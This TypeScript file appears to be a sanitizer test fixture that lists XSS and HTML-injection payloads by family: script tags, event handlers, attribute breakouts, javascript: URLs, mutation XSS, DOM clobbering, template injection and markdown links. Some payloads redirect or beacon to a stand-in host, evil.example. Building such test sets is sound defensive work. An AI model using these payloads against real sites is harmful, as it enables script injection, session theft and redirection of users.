// Our own hostile texts, by family: each would run, load or shadow something if a page allowed it.

export const families: Readonly<Record<string, readonly string[]>> = {
  script: ["<script>alert(1)</script>"],
  "created by a filter that removes text": ["<scr<script>ipt>alert(2)</scr</script>ipt>"],
  handler: ["<img src=x onerror=alert(3)>", "<details open ontoggle=alert(4)>x</details>"],
  "end of an attribute": [`"><img src=x onerror=alert(5)>`, "' autofocus onfocus='alert(6)' tabindex='0"],
  "end of an element": [
    "</title><script>alert(7)</script>",
    "</textarea></style></script><img src=x onerror=alert(8)>",
  ],
  address: [
    `<a href="java\tscript:alert(10)">a</a><a href="&#1;vbscript&colon;x">b</a>`,
    `<a href="data:text/html,<script>alert(11)</script>">a</a>`,
  ],
  frame: [
    `<iframe srcdoc="<script>alert(12)</script>"></iframe>`,
    `<object data="javascript:alert(13)"></object><embed src=/>`,
  ],
  form: ["<form action=https://evil.example><input name=q><button formaction=javascript:alert(14)>a</button></form>"],
  head: ["<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>"],
  style: [
    "<style>*{background:url(https://evil.example/)}</style><p style='background:url(https://evil.example/)'>a</p>",
  ],
  drawing: ["<svg onload=alert(15)><a xlink:href=javascript:alert(15)><text>a</text></a></svg>"],
  "changed by parsing twice": [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(16)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(17)>'>",
  ],
  "shadowed name": ["<img name=body alt=a><a id=location href=#>a</a><form id=cookie><input name=attributes></form>"],
  comment: ["<!--><img src=x onerror=alert(18)>-->", "<![CDATA[><img src=x onerror=alert(19)>]]>"],
  template: ["{{constructor.constructor('alert(20)')()}} <%= alert(20) %>"],
  "direction and separators": ["\u202eevil\u2028</script><script>alert(21)</script>\u2029"],
  "text that only browsers parse as a tag": [
    `![<kbd>](/maps/tjk.svg) <meta http-equiv="refresh"content="0;url=https://evil.example/"><img src="x"onerror=alert(23)>`,
  ],
  markdown: [
    "[a](javascript:alert(9)) <javascript:alert(9)>",
    `![a](x "onerror=alert(22)") [![b](javascript:alert(22))](<javascript:alert(22)> 'c')`,
  ],
}
